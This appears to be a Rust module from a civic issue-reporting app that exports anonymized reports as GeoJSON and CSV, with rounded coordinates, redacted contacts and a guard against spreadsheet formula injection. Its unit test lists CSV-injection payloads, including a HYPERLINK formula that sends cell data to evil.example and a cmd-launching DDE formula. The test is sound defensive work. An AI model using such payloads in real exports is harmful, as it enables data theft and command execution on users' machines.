//! The anonymized shape of reports in open data (GeoJSON features and CSV
//! rows), shared by the web exports and `baladiya export reports`: no
//! names or contacts, coordinates rounded to about 11 metres, contact
//! details typed into descriptions hidden.

use baladiya_app::reports::MAX_PAGE;
use baladiya_domain::org::UnitCode;
use baladiya_domain::reports::ReportCategory;
use baladiya_domain::reports::lifecycle::ReportStatus;
use baladiya_domain::text::redact_contacts;
use baladiya_store::{PublicReport, ReportQuery};
use chrono::{DateTime, NaiveDate, NaiveTime, Utc};
use serde::{Deserialize, Serialize};

use crate::http::error::WebError;

/// Filters of the open-data exports and the public map.
#[derive(Debug, Default, Deserialize)]
pub struct ExportQuery {
    #[serde(default)]
    pub service_code: String,
    /// A Baladiya status (`in_progress`…) or Open311's `open` / `closed`.
    #[serde(default)]
    pub status: String,
    /// A unit code: reports of that unit and every unit below it.
    #[serde(default)]
    pub unit: String,
    /// `YYYY-MM-DD`, inclusive.
    #[serde(default)]
    pub from: String,
    #[serde(default)]
    pub to: String,
    pub page: Option<i64>,
}

impl ExportQuery {
    /// The report query these filters stand for, or the field in error.
    pub async fn to_query(&self, app: &baladiya_app::App) -> Result<ReportQuery, WebError> {
        let mut query = ReportQuery {
            limit: MAX_PAGE,
            offset: (self.page.unwrap_or(1).max(1) - 1) * MAX_PAGE,
            ..ReportQuery::default()
        };
        if !self.service_code.is_empty() {
            query.categories = vec![self.service_code.clone()];
        }
        match self.status.as_str() {
            "" => {}
            text => match ReportStatus::parse(text) {
                Ok(s) => query.statuses = vec![s],
                Err(_) => {
                    let all = ReportStatus::from_open311(text)
                        .map_err(|c| WebError::field("status", c))?;
                    query.statuses = all;
                }
            },
        }
        if !self.unit.is_empty() {
            let code = UnitCode::parse(&self.unit).map_err(|c| WebError::field("unit", c))?;
            let unit = app
                .store
                .unit_by_code(&code)
                .await
                .map_err(baladiya_app::AppError::from)?
                .ok_or_else(|| WebError::field("unit", "unit-unknown"))?;
            query.within = vec![unit.path];
        }
        let day = |text: &str, field: &str, end: bool| -> Result<_, WebError> {
            if text.is_empty() {
                return Ok(None);
            }
            let day = NaiveDate::parse_from_str(text, "%Y-%m-%d")
                .map_err(|_| WebError::field(field, "date-invalid"))?;
            let time = if end {
                NaiveTime::from_hms_opt(23, 59, 59).unwrap_or(NaiveTime::MIN)
            } else {
                NaiveTime::MIN
            };
            Ok(Some(day.and_time(time).and_utc()))
        };
        query.from = day(&self.from, "from", false)?;
        query.to = day(&self.to, "to", true)?;
        Ok(query)
    }
}

/// Coordinates in open data: 4 decimals, about 11 metres.
fn rounded(x: f64) -> f64 {
    (x * 10_000.0).round() / 10_000.0
}

/// One report as a GeoJSON feature (RFC 7946), written straight from the
/// report: an export of many writes no intermediate JSON tree.
#[derive(Debug, Serialize)]
pub struct Feature<'a> {
    #[serde(rename = "type")]
    kind: &'static str,
    id: i64,
    geometry: Point,
    properties: Properties<'a>,
}

#[derive(Debug, Serialize)]
struct Point {
    #[serde(rename = "type")]
    kind: &'static str,
    /// Longitude, latitude (GeoJSON's order), rounded.
    coordinates: [f64; 2],
}

#[derive(Debug, Serialize)]
struct Properties<'a> {
    id: i64,
    service_code: &'a str,
    service_name: Option<&'a str>,
    status: &'static str,
    unit: &'a str,
    department: &'static str,
    requested_at: DateTime<Utc>,
    updated_at: DateTime<Utc>,
    closed_at: Option<DateTime<Utc>>,
    description: String,
}

/// A GeoJSON feature collection of `features`.
#[derive(Debug, Serialize)]
pub struct FeatureCollection<'a> {
    #[serde(rename = "type")]
    kind: &'static str,
    features: Vec<Feature<'a>>,
}

impl<'a> FeatureCollection<'a> {
    pub fn new(features: Vec<Feature<'a>>) -> Self {
        Self {
            kind: "FeatureCollection",
            features,
        }
    }
}

/// One report as a GeoJSON feature, names in `lang`.
pub fn feature<'a>(
    r: &'a PublicReport,
    categories: &'a [ReportCategory],
    lang: &str,
) -> Feature<'a> {
    let category = categories.iter().find(|c| c.code == r.category_code);
    Feature {
        kind: "Feature",
        id: r.id,
        geometry: Point {
            kind: "Point",
            coordinates: [rounded(r.lon), rounded(r.lat)],
        },
        properties: Properties {
            id: r.id,
            service_code: &r.category_code,
            service_name: category.map(|c| c.name.get(lang)),
            status: r.status.as_str(),
            unit: &r.unit_code,
            department: r.department.as_str(),
            requested_at: r.requested_at,
            updated_at: r.updated_at,
            closed_at: r.closed_at,
            description: redact_contacts(&r.description),
        },
    }
}

pub const CSV_HEADER: [&str; 11] = [
    "id",
    "service_code",
    "status",
    "unit",
    "department",
    "lat",
    "long",
    "requested_at",
    "updated_at",
    "closed_at",
    "description",
];

/// One report as a CSV row, in the order of [`CSV_HEADER`].
pub fn csv_record(r: &PublicReport) -> [String; 11] {
    [
        r.id.to_string(),
        r.category_code.clone(),
        r.status.as_str().to_owned(),
        r.unit_code.clone(),
        r.department.as_str().to_owned(),
        rounded(r.lat).to_string(),
        rounded(r.lon).to_string(),
        r.requested_at.to_rfc3339(),
        r.updated_at.to_rfc3339(),
        r.closed_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
        spreadsheet_safe(redact_contacts(&r.description)),
    ]
}

/// Free text for a CSV cell that a spreadsheet will not run as a formula
/// (OWASP's CSV injection advice): a cell starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return gets a leading `'`.
fn spreadsheet_safe(text: String) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_never_reach_a_spreadsheet() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1",
        ] {
            assert_eq!(spreadsheet_safe(formula.to_owned()), format!("'{formula}"));
        }
        assert_eq!(
            spreadsheet_safe("حفرة كبيرة - عاجل".into()),
            "حفرة كبيرة - عاجل"
        );
    }
}
